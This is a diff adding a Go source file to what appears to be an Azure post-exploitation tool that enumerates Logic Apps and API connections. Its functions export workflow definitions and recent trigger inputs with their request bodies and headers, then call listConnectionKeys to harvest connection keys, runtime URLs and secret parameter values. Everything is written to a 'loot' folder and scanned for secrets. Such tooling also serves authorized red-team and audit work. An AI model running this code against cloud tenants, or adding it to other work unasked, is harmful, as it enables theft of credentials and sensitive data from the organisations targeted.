@@ -0,0 +1,201 @@
+package management
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+
+	"github.com/f0rk3b0mb/GoCloudGhost/azure/models"
+)
+
+const (
+	logicAPIVersion         = "2019-05-01"
+	connectionAPIVersion    = "2016-06-01"
+	connectionKeyAPIVersion = "2018-07-01-preview"
+)
+
+// connectionKeyValidity is the lifetime in days requested for API connection keys
+const connectionKeyValidity = "1"
+
+// logicAppRunLimit is the number of most recent runs whose trigger inputs are exported
+const logicAppRunLimit = 10
+
+// enumerateLogicApps exports Logic App workflow definitions, recent trigger inputs and API
+// connections to loot and scans them for secrets
+func enumerateLogicApps(token, subscriptionID string) error {
+	ctx := context.Background()
+
+	url := fmt.Sprintf(
+		"https://management.azure.com/subscriptions/%s/providers/Microsoft.Logic/workflows?api-version=%s",
+		subscriptionID,
+		logicAPIVersion,
+	)
+
+	workflows, err := listAllPages[models.LogicAppWorkflow](ctx, token, url)
+	if err != nil {
+		return err
+	}
+
+	fmt.Println("\n=== LOGIC APPS ===")
+
+	if len(workflows) == 0 {
+		fmt.Println("[INFO] No Logic Apps found.")
+	}
+
+	var resources []models.Resource
+	for _, workflow := range workflows {
+		fmt.Printf("\n[INFO] Logic App: %-30s Resource Group: %-25s State: %s\n",
+			workflow.Name,
+			extractResourceGroupFromID(workflow.ID),
+			workflow.Properties.State,
+		)
+
+		resources = append(resources, models.Resource{
+			ID:       workflow.ID,
+			Name:     workflow.Name,
+			Type:     "Microsoft.Logic/workflows",
+			Location: workflow.Location,
+		})
+
+		saveAndScan(workflow.Name, map[string]interface{}{
+			"definition": workflow.Properties.Definition,
+			"parameters": workflow.Properties.Parameters,
+		}, "logicapps", workflow.Name, "definition.json")
+
+		exportTriggerInputs(ctx, token, workflow)
+	}
+
+	recordResources(resources...)
+
+	return enumerateAPIConnections(ctx, token, subscriptionID)
+}
+
+// exportTriggerInputs saves the trigger inputs of the most recent runs, which hold the
+// request bodies and headers the workflow was invoked with
+func exportTriggerInputs(ctx context.Context, token string, workflow models.LogicAppWorkflow) {
+	url := fmt.Sprintf(
+		"https://management.azure.com%s/runs?api-version=%s&$top=%d",
+		workflow.ID,
+		logicAPIVersion,
+		logicAppRunLimit,
+	)
+
+	var runs struct {
+		Value []models.LogicAppRun `json:"value"`
+	}
+	if err := makeAuthenticatedRequest(ctx, token, http.MethodGet, url, &runs); err != nil {
+		fmt.Printf("[WARN] Run history request failed for %s: %v\n", workflow.Name, err)
+		return
+	}
+
+	for _, run := range runs.Value {
+		trigger := run.Properties.Trigger
+		fmt.Printf("       Run %-30s %-10s %-30s Trigger: %s\n", run.Name, run.Properties.Status, run.Properties.StartTime, trigger.Name)
+
+		if trigger.InputsLink == nil || trigger.InputsLink.URI == "" {
+			continue
+		}
+
+		var inputs interface{}
+		if err := fetchContentLink(ctx, trigger.InputsLink.URI, &inputs); err != nil {
+			fmt.Printf("[WARN] Trigger inputs request failed for run %s: %v\n", run.Name, err)
+			continue
+		}
+
+		saveAndScan(workflow.Name+"/"+run.Name, inputs, "logicapps", workflow.Name, "runs", run.Name+"-trigger-inputs.json")
+	}
+}
+
+// fetchContentLink downloads run inputs or outputs. The link is pre-signed, so the ARM
+// token is not sent to the Logic Apps endpoint.
+func fetchContentLink(ctx context.Context, uri string, result interface{}) error {
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, uri, nil)
+	if err != nil {
+		return fmt.Errorf("failed to create request: %w", err)
+	}
+
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		return fmt.Errorf("request failed: %w", err)
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		body, _ := ioutil.ReadAll(resp.Body)
+		return fmt.Errorf("unexpected status code %d: %s", resp.StatusCode, string(body))
+	}
+
+	if err := json.NewDecoder(resp.Body).Decode(result); err != nil {
+		return fmt.Errorf("failed to decode response: %w", err)
+	}
+
+	return nil
+}
+
+// enumerateAPIConnections exports the Microsoft.Web/connections used by Logic App connectors,
+// including their parameter values
+func enumerateAPIConnections(ctx context.Context, token, subscriptionID string) error {
+	url := fmt.Sprintf(
+		"https://management.azure.com/subscriptions/%s/providers/Microsoft.Web/connections?api-version=%s",
+		subscriptionID,
+		connectionAPIVersion,
+	)
+
+	connections, err := listAllPages[models.APIConnection](ctx, token, url)
+	if err != nil {
+		return err
+	}
+
+	fmt.Println("\n=== API CONNECTIONS ===")
+
+	if len(connections) == 0 {
+		fmt.Println("[INFO] No API connections found.")
+		return nil
+	}
+
+	for _, connection := range connections {
+		props := connection.Properties
+		status := ""
+		if len(props.Statuses) > 0 {
+			status = props.Statuses[0].Status
+		}
+
+		fmt.Printf("[INFO] Connection: %-30s API: %-25s Status: %-12s User: %s\n",
+			connection.Name,
+			props.API.Name,
+			status,
+			valueOr(props.AuthenticatedUser.Name, "<none>"),
+		)
+
+		record := map[string]interface{}{
+			"displayName":              props.DisplayName,
+			"api":                      props.API.Name,
+			"authenticatedUser":        props.AuthenticatedUser.Name,
+			"parameterValues":          props.ParameterValues,
+			"nonSecretParameterValues": props.NonSecretParameterValues,
+		}
+
+		// A plain GET omits secret parameter values, the list action returns what it can
+		var keys models.APIConnectionKeys
+		keysURL := fmt.Sprintf("https://management.azure.com%s/listConnectionKeys?api-version=%s", connection.ID, connectionKeyAPIVersion)
+		if err := postAuthenticatedJSON(ctx, token, keysURL, map[string]string{"validityTimeSpan": connectionKeyValidity}, &keys); err != nil {
+			fmt.Printf("[WARN] Connection key request failed for %s: %v\n", connection.Name, err)
+		} else {
+			printKey(connection.Name, "connectionKey", keys.ConnectionKey)
+			for _, runtimeURL := range keys.RuntimeURLs {
+				fmt.Printf("       Runtime URL: %s\n", runtimeURL)
+			}
+			record["connectionKey"] = keys.ConnectionKey
+			record["runtimeUrls"] = keys.RuntimeURLs
+			if len(keys.ParameterValues) > 0 {
+				record["listedParameterValues"] = keys.ParameterValues
+			}
+		}
+
+		saveAndScan(connection.Name, record, "logicapps", "connections", connection.Name+".json")
+	}
+
+	return nil
+}